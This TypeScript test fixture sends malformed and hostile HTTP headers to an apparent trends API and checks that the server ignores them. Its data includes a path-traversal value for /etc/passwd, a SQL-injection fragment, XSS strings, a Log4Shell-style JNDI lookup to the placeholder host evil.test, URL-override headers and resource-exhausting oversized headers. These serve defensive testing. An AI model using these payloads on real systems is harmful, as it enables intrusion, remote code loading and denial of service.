import { toRequests } from './hostile-request.ts';

const trends = '/api/v1/trends?indicator=90284&area=E92000001';
const page = '/';
const sent = (header: string, value: string) => ({ headers: { [header]: value } });

/** Headers that no program sends in good faith; what they ask for is passed over, never obeyed half. */
export const strangeHeaders = toRequests([
  ['a tag that is none', trends, 200, sent('if-none-match', 'nonsense')],
  ['a tag without its end', trends, 200, sent('if-none-match', '"')],
  ['a tag of another answer', trends, 200, sent('if-none-match', '"abc", W/"def"')],
  ['ten thousand tags', trends, 200, sent('if-none-match', '"a",'.repeat(10_000))],
  ['any tag', trends, 304, sent('if-none-match', '*')],
  ['a tag and a time', trends, 200, { headers: { 'if-none-match': '"a"', 'if-modified-since': 'now' } }],
  ['a time that is none', trends, 200, sent('if-modified-since', 'yesterday')],
  ['a time to come', trends, 200, sent('if-modified-since', 'Fri, 31 Dec 9999 23:59:59 GMT')],
  ['a condition that cannot hold', trends, 200, sent('if-match', '"nothing"')],
  ['a range', trends, 200, sent('range', 'bytes=0-0')],
  ['a range upside down', trends, 200, sent('range', 'bytes=100-1')],
  ['a range below nothing', trends, 200, sent('range', 'bytes=-99999999999999999999')],
  ['ten thousand ranges', trends, 200, sent('range', `bytes=${'0-,'.repeat(10_000)}0-`)],
  ['a range of a page', page, 200, sent('range', 'bytes=5-1,0-,-')],
  ['a range in a unit that there is not', page, 200, sent('range', 'rows=1-2')],
  ['a form of answer that there is not', trends, 200, sent('accept', 'application/x-php')],
  ['a form of answer that is none', trends, 200, sent('accept', ';;;,,,q=q')],
  ['ten thousand forms of answer', trends, 200, sent('accept', 'a/b;q=0.1,'.repeat(10_000))],
  ['no form of answer at all', trends, 200, sent('accept', '*/*;q=0')],
  ['an encoding that there is not', trends, 200, sent('accept-encoding', 'zstd, compress, x-evil')],
  ['no encoding at all', trends, 200, sent('accept-encoding', 'identity;q=0, *;q=0')],
  ['ten thousand encodings', trends, 200, sent('accept-encoding', 'br;q=0,'.repeat(10_000))],
  ['a language that is a path', trends, 200, sent('accept-language', '../../etc/passwd')],
  ['a request id that would break a log', trends, 200, sent('x-request-id', 'a b"c{d}')],
  ['a request id of a thousand letters', trends, 200, sent('x-request-id', 'a'.repeat(1_000))],
  [
    'an address that only a trusted proxy may tell',
    trends,
    200,
    sent('x-forwarded-for', "127.0.0.1, '; DROP TABLE"),
  ],
  ['a scheme that only a trusted proxy may tell', trends, 200, sent('x-forwarded-proto', 'javascript')],
  ['an address to be read instead', trends, 200, sent('x-original-url', '/api/v1/extracts')],
  ['an address to be rewritten to', trends, 200, sent('x-rewrite-url', '/admin-token')],
  ['a page that sent it, with a script', trends, 200, sent('referer', 'javascript:alert(1)')],
  ['a browser with a script for a name', trends, 200, sent('user-agent', '<script>alert(1)</script>')],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is sent as it stands
  ['a browser with a look-up for a name', trends, 200, sent('user-agent', '${jndi:ldap://evil.test/a}')],
  ['a cookie that is none', trends, 200, sent('cookie', ';;;=;__proto__=1')],
  ['a cookie of ten thousand letters', trends, 200, sent('cookie', `a=${'b'.repeat(10_000)}`)],
  ['a wish to upgrade', trends, 200, sent('x-upgrade', 'h2c')],
  ['a token where none is asked for', trends, 200, sent('authorization', 'Bearer ../../admin-token')],
  ['a body with a question', `${trends}&format=xml`, 400, sent('content-type', 'application/json')],
]);
